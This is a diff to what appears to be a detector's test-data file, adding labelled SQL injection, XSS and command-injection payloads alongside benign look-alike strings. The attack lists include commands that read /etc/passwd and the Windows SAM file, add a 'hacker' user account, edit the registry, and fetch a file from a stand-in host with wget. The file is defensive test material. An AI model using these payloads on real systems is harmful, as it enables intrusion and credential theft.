@@ -21,6 +21,10 @@ SQLI_ATTACKS = [
     "1 and (select count(*) from users) > 0", "-1' union select password from users where '1'='1",
     "password::int", "' having 1=1--", "1 order by 5--", "a' or 'x' like 'x", "@@version",
     "select name from users", "1;exec master..xp_cmdshell 'dir'", "concat(0x7e,user())",
+    # from public payload lists (PayloadsAllTheThings' intruder files)
+    "' or true--", "\" or true--", "') or true--", " ORDER BY 30 ", " ORDER BY 3-- ",
+    " AND 5650=CONVERT(INT,(UNION ALL SELECTCHAR(88)))-- ", "1' or 1.e(1) or '1'='1",
+    " AS INJECTX WHERE 1=1 AND 1=1--", "x where 'a'='a",
 ]
 SQLI_BENIGN = [
     "select a color", "drop down menu", "union station", "1 or 2 items", "O'Brien", "rock 'n' roll",
@@ -29,6 +33,8 @@ SQLI_BENIGN = [
     "create table of contents", "select tea (20 bags)", "Search results: \"select tea\"", "I'm at the union",
     "if (user && user.isAdmin) { show(); }", "price < $20 or more", "user_id", "#1 bestseller", "--help",
     "x = a > b ? a : b;", "He said \"it's fine\" but it's not", "union of sets and intersect lines",
+    "it's true or false", "Rock 'n' roll or true blues", "order by 2pm please", "where 2 roads meet",
+    "sort: order by date", "null or empty",
 ]
 
 
@@ -58,6 +64,7 @@ XSS_ATTACKS = [
     "(![]+[])[+!+[]]", "[].sort.call`${alert}1`", "<math><mtext><table><mglyph><style><img src=x>",
     "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<object data=\"x.swf\">", "<meta http-equiv=refresh content=0>",
     "';alert(String.fromCharCode(88,83,83))//", "<!--#exec cmd=\"ls\"-->", "<x:script>alert(1)</x:script>",
+    "<x onxxx=1", "<X OnXxx=1", "<x%0Aonxxx=1", "<x onxxx%3D1",    # handlers no browser knows yet
 ]
 XSS_BENIGN = [
     "<b>bold</b> and <i>italic</i>", "<p>Hello <a href=\"https://example.com\">site</a></p>",
@@ -67,6 +74,7 @@ XSS_BENIGN = [
     "class User:\n    def __init__(self, name):\n        self.name = name", "console.log(`Total: ${total}`)",
     "const total = items.reduce((s, x) => s + x.price, 0);", "Alert: your password will expire",
     "please confirm your email", "prompt engineering", "data: 42", "background: red; color: blue",
+    "<a one=1>", "<p>Only one</p>", "I <3 online=fun",
 ]
 
 
@@ -117,6 +125,9 @@ CMDI_ATTACKS = [
     "& dir c:\\", "| net user", "& powershell -enc ZQBjAGgAbwA=", "cmd.exe /c whoami",
     "for %a in (1) do calc", "& type %systemroot%\\win.ini", "; sudo -l", "nohup ifconfig", "whoami",
     "x`sleep${IFS}5`", "; python3 -c 'import os'", "|| wget http://x/y -O /tmp/y",
+    "; sleep 15", "& sleep 1", "|| sleep 15", "&& sleep 5;", "type C:\\Windows\\repair\\SAM", "dir C:\\",
+    "net user hacker Password1 /ADD", "| system('sleep 5');", "; shell_exec(\"cat /etc/passwd\")",
+    "|usr/bin/id\\n", "reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v x /f",
 ]
 CMDI_BENIGN = [
     "cat food", "ls 460 lexus", "time warner cable", "ping pong table", "find my phone", "head and shoulders",
@@ -125,6 +136,8 @@ CMDI_BENIGN = [
     "{\"a\": 1}", "tar and feathers", "if you're not sure; both work", "kills foo bar", "sleep mask",
     "await fetchUser(id).then(res => res.json())", "$HOME directory", "~/Downloads", "100% cotton", "gzip",
     "python3.11", "curl/8.5.0", "Wget/1.21.4", "pip install requests", "npm install express",
+    "hello; sleep 8 hours", "eat & sleep well", "os.system('ls -la')", "exec(\"print(1)\")",
+    "type here", "the registry; reg add is a command",
 ]
 
 
